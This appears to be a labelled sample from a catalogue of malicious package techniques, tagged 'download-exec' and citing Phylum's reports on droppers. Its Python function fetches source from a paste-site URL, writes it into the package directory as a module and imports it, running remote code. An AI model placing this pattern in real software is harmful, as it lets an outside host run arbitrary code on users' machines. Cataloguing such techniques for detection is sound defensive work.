# technique: downloaded source written next to the package then imported
# class: download-exec
# source: Phylum, multi-stage droppers that write a module to disk and import it
# declares: network, fs-write
import importlib
import os

import requests


def refresh():
    src = requests.get("https://rentry.co/x7q2k/raw", timeout=10).text
    with open(os.path.join(os.path.dirname(__file__), "_live.py"), "w") as fh:
        fh.write(src)
    importlib.import_module(__package__ + "._live")
